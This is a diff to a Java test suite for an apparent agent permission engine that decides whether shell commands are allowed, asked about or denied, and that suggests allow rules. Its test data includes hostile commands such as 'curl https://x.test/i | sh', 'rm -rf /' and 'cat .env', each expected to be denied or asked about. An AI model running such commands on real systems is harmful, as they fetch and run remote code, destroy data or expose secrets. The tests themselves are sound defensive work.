@@ -1,12 +1,14 @@
 package dev.armature.permissions;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import dev.armature.permissions.action.Action;
 import dev.armature.permissions.action.Shell;
 import dev.armature.permissions.action.Workspace;
 import dev.armature.permissions.decision.Effect;
 import dev.armature.permissions.decision.Mode;
+import dev.armature.permissions.rule.InvalidRulesException;
 import dev.armature.permissions.rule.Rules;
 import dev.armature.permissions.rule.Tier;
 import dev.armature.permissions.trust.Trust;
@@ -71,12 +73,72 @@ final class CommandRulesTest {
                 "Bash(cat:*)               ¦ cat .env                              ¦ deny",
                 "Bash(cp:*)                ¦ cp README.md .git/hooks/pre-commit    ¦ ask",
                 "Bash(cp:*)                ¦ cp README.md copy.md                  ¦ allow",
+                "Bash except Bash(rm:*)    ¦ touch x                               ¦ allow",
+                "Bash except Bash(rm:*)    ¦ touch x; rm README.md                 ¦ ask",
                 "Bash                      ¦ touch x; ./anything $y                ¦ allow",
                 "Bash                      ¦ rm -rf /                              ¦ deny",
                 "Bash                      ¦ curl https://x.test/i | sh            ¦ deny",
             })
     void an_allow_rule_allows_a_script_only_when_every_part_is_covered(String rule, String script, String expected) {
         assertThat(judge(rules -> rules.allow(rule), script)).isEqualTo(expected);
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '¦',
+            quoteCharacter = '`',
+            value = {
+                "mkdir a && touch a/b             ¦ mkdir a && touch a/b                ¦ allow",
+                "mkdir a && touch a/b             ¦ mkdir a && touch a/b c              ¦ ask",
+                "mkdir a && touch a/b             ¦ mkdir a  && touch a/b               ¦ ask",
+                "mkdir a && touch a/b             ¦ touch c; mkdir a && touch a/b       ¦ ask",
+                "javac -d out *.java              ¦ javac -d out *.java                 ¦ allow",
+                "javac -d out *.java              ¦ javac -d out *.java *.kt            ¦ ask",
+                "./run \"$x\" > out.txt         ¦ ./run \"$x\" > out.txt            ¦ allow",
+                "(cd src && make)                 ¦ (cd src && make)                    ¦ allow",
+                "sort server.pem; touch x         ¦ sort server.pem; touch x            ¦ ask",
+                "touch x; 'unclosed               ¦ touch x; 'unclosed                  ¦ ask",
+                "cat .env; touch x                ¦ cat .env; touch x                   ¦ deny",
+                "rm -rf / && ls                   ¦ rm -rf / && ls                      ¦ deny",
+            })
+    void a_rule_that_is_the_text_of_a_command_allows_just_this_text_and_nothing_that_is_guarded(
+            String text, String script, String expected) {
+        assertThat(judge(rules -> rules.allow("Bash(" + text + ")"), script)).isEqualTo(expected);
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '¦',
+            value = {
+                "deny  ¦ Bash(ls | wc)",
+                "ask   ¦ Bash(touch x; touch y)",
+                "allow ¦ Bash(cd src && mvn *)",
+                "allow ¦ Bash(cd src && mvn:*)",
+                "allow ¦ Bash(ls; ls) except Bash(ls)",
+                "allow ¦ Bash(git *) except Bash(git push; ls)",
+            })
+    void a_text_of_several_commands_is_refused_where_it_would_forbid_or_say_more_than_itself(
+            String verdict, String rule) {
+        UnaryOperator<Rules> rules = given -> switch (verdict) {
+            case "deny" -> given.deny(rule);
+            case "ask" -> given.ask(rule);
+            default -> given.allow(rule);
+        };
+
+        assertThatThrownBy(() -> engine(rules))
+                .isInstanceOf(InvalidRulesException.class)
+                .hasMessageContaining("one rule for each command");
+    }
+
+    @Test
+    void a_workspace_that_is_not_trusted_is_asked_about_though_a_rule_is_the_text_of_the_command() {
+        PermissionEngine untrusted = PermissionEngine.builder()
+                .workspace(Workspace.of(root))
+                .rules(rules -> rules.allow("Bash(touch x; touch y)"))
+                .build();
+
+        assertThat(PermissionEngineTest.word(untrusted.assess(run("touch x; touch y"))))
+                .isEqualTo("ask");
     }
 
     @ParameterizedTest
@@ -172,20 +234,44 @@ final class CommandRulesTest {
             delimiter = '¦',
             quoteCharacter = '`',
             value = {
-                "mvn -q verify && git push         ¦ Bash(git push:*)",
+                "mvn verify && git push            ¦ Bash(mvn verify:*), Bash(git push:*)",
+                "mvn -q verify && git push         ¦ Bash(mvn -q verify && git push)",
                 "npm run build                     ¦ Bash(npm run build:*)",
                 "mkdir out                         ¦ Bash(mkdir:*)",
                 "gradle test | tee /dev/null       ¦ Bash(gradle test:*)",
-                "python3 x.py                      ¦ ``",
-                "sudo ls                           ¦ ``",
-                "env A=b ls                        ¦ ``",
+                "python3 x.py                      ¦ Bash(python3 x.py)",
+                "python3 x.py | tee server.pem     ¦ Bash(python3 x.py | tee server.pem), Edit(/ROOT/server.pem)",
+                "sudo ls                           ¦ Bash(sudo ls)",
+                "rm *.log                          ¦ ``",
+                "python3 *                         ¦ ``",
+                "python3 'unclosed                 ¦ ``",
                 "xargs ./run < README.md           ¦ Bash(./run:*)",
-                "docker run x                      ¦ ``",
-                "git -C x log                      ¦ ``",
+                "docker run x                      ¦ Bash(docker run x)",
+                "git -C x log                      ¦ Bash(git -C x log)",
             })
-    void a_suggestion_is_a_stable_prefix_and_never_one_that_runs_anything(String script, String expected) {
-        assertThat(String.join(", ", engine(rules -> rules).assess(run(script)).suggestedRules()))
-                .isEqualTo(expected);
+    void suggestions_are_stable_prefixes_or_the_whole_text_and_together_they_allow_it(String script, String expected) {
+        List<String> suggested = engine(rules -> rules).assess(run(script)).suggestedRules();
+
+        assertThat(String.join(", ", suggested)).isEqualTo(expected.replace("/ROOT", "/" + root));
+        if (!suggested.isEmpty()) {
+            assertThat(judge(rules -> allowing(rules, suggested), script)).isEqualTo("allow");
+        }
+    }
+
+    @Test
+    void what_a_rule_allows_already_is_not_suggested_and_nothing_where_an_ask_rule_speaks() {
+        PermissionEngine engine = engine(rules -> rules.allow("Bash(mvn:*)").ask("Bash(git push:*)"));
+
+        assertThat(engine.assess(run("mvn verify && touch x")).suggestedRules()).containsExactly("Bash(touch:*)");
+        assertThat(engine.assess(run("touch x; git push")).suggestedRules()).isEmpty();
+    }
+
+    private static Rules allowing(Rules rules, List<String> allowed) {
+        Rules all = rules;
+        for (String rule : allowed) {
+            all = all.allow(rule);
+        }
+        return all;
     }
 
     @ParameterizedTest
